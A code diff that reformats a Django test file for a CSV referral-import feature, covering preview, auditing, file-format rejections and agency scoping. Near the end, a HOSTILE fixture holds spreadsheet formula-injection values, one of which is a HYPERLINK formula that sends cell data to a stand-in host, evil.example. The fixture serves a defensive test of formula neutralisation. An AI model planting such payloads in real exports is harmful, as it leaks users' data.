@@ -96,12 +96,19 @@ def test_signed_out_visitors_are_sent_to_sign_in(client):
 def test_a_good_upload_is_kept_for_preview_and_audited(cast):
     batch = uploaded(cast, [good_row(1), good_row(2)])
     assert (batch.state, batch.row_count, batch.agency, batch.uploaded_by) == (
-        ReferralImport.State.PREVIEW, 2, cast.ed, cast.partner.user)
+        ReferralImport.State.PREVIEW,
+        2,
+        cast.ed,
+        cast.partner.user,
+    )
     assert batch.file_name == "daily.csv"
     assert not Referral.objects.exists()
     event = AuditEvent.objects.get(target_type="referrals.referralimport")
-    assert (event.action, event.target_ids, event.user) == (AuditEvent.Action.CREATE, [str(batch.pk)],
-                                                            cast.partner.user)
+    assert (event.action, event.target_ids, event.user) == (
+        AuditEvent.Action.CREATE,
+        [str(batch.pk)],
+        cast.partner.user,
+    )
 
 
 BAD_FILES = [
@@ -110,10 +117,16 @@ BAD_FILES = [
     ("header only", b"source,phone\r\n", "The file has a header row but no referrals below it."),
     ("png", png_bytes(), "This is an image (PNG), not a CSV file."),
     ("xlsx", xlsx_bytes(), "This is an Excel workbook (.xlsx)"),
-    ("latin-1", "source,first_name,phone\nems,Zoë,412-555-0100\n".encode("latin-1"),
-     "The file is not saved as UTF-8: line 2 has a character we cannot read"),
-    ("utf-16 without bom", "source,phone\nems,412-555-0100\n".encode("utf-16-le"),
-     "UTF-16 text without a byte-order mark"),
+    (
+        "latin-1",
+        "source,first_name,phone\nems,Zoë,412-555-0100\n".encode("latin-1"),
+        "The file is not saved as UTF-8: line 2 has a character we cannot read",
+    ),
+    (
+        "utf-16 without bom",
+        "source,phone\nems,412-555-0100\n".encode("utf-16-le"),
+        "UTF-16 text without a byte-order mark",
+    ),
     ("malformed", b'source,notes\nems,"unclosed\n', "The file is not valid CSV near line"),
     ("ragged", b"source,phone\nems,412-555-0100,extra\n", "row 2 has 3"),
     ("unknown column", b"source,phone,ssn\nems,412-555-0100,000\n", "Unknown column: “ssn”"),
@@ -157,8 +170,9 @@ def test_too_many_rows_are_refused_on_the_upload_page(cast, settings):
 
 
 def test_the_preview_shows_a_summary_and_every_row_with_its_problems(cast):
-    submit_referral(cast.program, agency=cast.ed, by=cast.partner, external_id="ED-0003", channel=Channel.API,
-                    first_name="Person3")
+    submit_referral(
+        cast.program, agency=cast.ed, by=cast.partner, external_id="ED-0003", channel=Channel.API, first_name="Person3"
+    )
     batch = uploaded(cast, [good_row(1), good_row(2, phone="", transported="maybe"), good_row(3), good_row(4)])
     response = cast.client_for(cast.partner).get(reverse("referrals:import_preview", args=[batch.pk]))
     page = response.content.decode()
@@ -295,7 +309,7 @@ def test_confirm_accepts_only_post(cast):
 
 
 def test_the_rejected_rows_download_has_original_values_row_numbers_and_problems(cast):
-    rows = [good_row(1), {**good_row(2), "phone": "", "notes": "said \"hi\", left"}, good_row(3, acuity="soon")]
+    rows = [good_row(1), {**good_row(2), "phone": "", "notes": 'said "hi", left'}, good_row(3, acuity="soon")]
     batch = uploaded(cast, rows)
     client = cast.client_for(cast.partner)
     page = confirm(client, batch, "valid_only").content.decode()
@@ -318,12 +332,20 @@ def test_the_rejected_rows_download_has_original_values_row_numbers_and_problems
     assert third["problems"] == "acuity: Unknown acuity. Use one of: high, elevated, standard."
     event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
     assert (event.target_type, event.target_ids, event.user) == (
-        "referrals.referralimport", [str(batch.pk)], cast.partner.user)
+        "referrals.referralimport",
+        [str(batch.pk)],
+        cast.partner.user,
+    )
 
     # Corrected, the download can be uploaded again as it is.
-    fixed = response.content.decode("utf-8-sig").replace(",soon,", ",high,").replace(
-        "ED-0002,emergency_department,2025-03-01 08:00,Person2,Example,,",
-        "ED-0002,emergency_department,2025-03-01 08:00,Person2,Example,412-555-0002,")
+    fixed = (
+        response.content.decode("utf-8-sig")
+        .replace(",soon,", ",high,")
+        .replace(
+            "ED-0002,emergency_department,2025-03-01 08:00,Person2,Example,,",
+            "ED-0002,emergency_department,2025-03-01 08:00,Person2,Example,412-555-0002,",
+        )
+    )
     assert post_file(client, fixed, "fixed.csv").status_code == 302
     again = ReferralImport.objects.latest("pk")
     page = confirm(client, again, "all").content.decode()
@@ -362,8 +384,7 @@ def test_a_batch_is_not_found_for_another_agency_or_program(cast, who):
     client = cast.client_for(getattr(cast, who))
     assert client.get(reverse("referrals:import_preview", args=[batch.pk])).status_code == 404
     assert client.post(reverse("referrals:import_confirm", args=[batch.pk]), {"choice": "all"}).status_code == 404
-    assert client.post(reverse("referrals:import_confirm", args=[batch.pk]),
-                       {"choice": "cancel"}).status_code == 404
+    assert client.post(reverse("referrals:import_confirm", args=[batch.pk]), {"choice": "cancel"}).status_code == 404
     assert client.get(reverse("referrals:import_rejected", args=[batch.pk])).status_code == 404
     batch.refresh_from_db()
     assert batch.state == ReferralImport.State.PREVIEW
@@ -421,7 +442,7 @@ def pa_rows_as_referrals(limit: int) -> list[dict[str, str]]:
     synthetic identity; the real suspected-substance names, date, time and naloxone are kept."""
     with PA_OVERDOSES.open(newline="", encoding="utf-8") as source:
         reader = csv.DictReader(source)
-        substance_names = reader.fieldnames[reader.fieldnames.index(SUBSTANCE_COLUMNS_START):]
+        substance_names = reader.fieldnames[reader.fieldnames.index(SUBSTANCE_COLUMNS_START) :]
         rows = []
         for incident in reader:
             substances = [name for name in substance_names if incident[name] == "1"]
@@ -429,20 +450,22 @@ def pa_rows_as_referrals(limit: int) -> list[dict[str, str]]:
                 continue
             low_age = int(incident["Age Range"].split("-")[0].strip() or 30)
             year = int(incident["Incident Date"][-4:])
-            rows.append({
-                "external_id": f"PSP-{incident['Incident ID']}-{incident['Victim ID']}",
-                "source": "law_enforcement",
-                "received_at": f"{incident['Incident Date']} {incident['Incident Time'][:5]}",
-                "overdose_occurred_at": f"{incident['Incident Date']} {incident['Incident Time'][:5]}",
-                "first_name": f"Synthetic{len(rows) + 1}",
-                "last_name": f"{incident['Incident County Name']}-Resident",
-                "date_of_birth": f"06/15/{year - low_age - 2}",
-                "location_notes": f"{incident['Victim County'] or incident['Incident County Name']} County, PA "
-                                  "(synthetic test location)",
-                "overdose_location": f"{incident['Incident County Name']} County, PA",
-                "substances": ";".join(substances),
-                "naloxone_given_by": "law_enforcement" if incident["Naloxone Administered"] == "Y" else "",
-            })
+            rows.append(
+                {
+                    "external_id": f"PSP-{incident['Incident ID']}-{incident['Victim ID']}",
+                    "source": "law_enforcement",
+                    "received_at": f"{incident['Incident Date']} {incident['Incident Time'][:5]}",
+                    "overdose_occurred_at": f"{incident['Incident Date']} {incident['Incident Time'][:5]}",
+                    "first_name": f"Synthetic{len(rows) + 1}",
+                    "last_name": f"{incident['Incident County Name']}-Resident",
+                    "date_of_birth": f"06/15/{year - low_age - 2}",
+                    "location_notes": f"{incident['Victim County'] or incident['Incident County Name']} County, PA "
+                    "(synthetic test location)",
+                    "overdose_location": f"{incident['Incident County Name']} County, PA",
+                    "substances": ";".join(substances),
+                    "naloxone_given_by": "law_enforcement" if incident["Naloxone Administered"] == "Y" else "",
+                }
+            )
             if len(rows) == limit:
                 return rows
     return rows
@@ -465,9 +488,14 @@ def test_real_substance_names_from_the_state_police_data_import(cast):
         assert referral.channel == Channel.CSV
 
 
-HOSTILE = {"notes": '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "location_notes": "=2+2",
-           "overdose_location": "@SUM(A1)", "preferred_name": "-Dee", "phone": "+1 412 555 0199",
-           "address": "\t=1+1"}
+HOSTILE = {
+    "notes": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "location_notes": "=2+2",
+    "overdose_location": "@SUM(A1)",
+    "preferred_name": "-Dee",
+    "phone": "+1 412 555 0199",
+    "address": "\t=1+1",
+}
 
 
 def test_the_rejected_rows_download_neutralises_formulas_and_re_uploads_unchanged(cast):
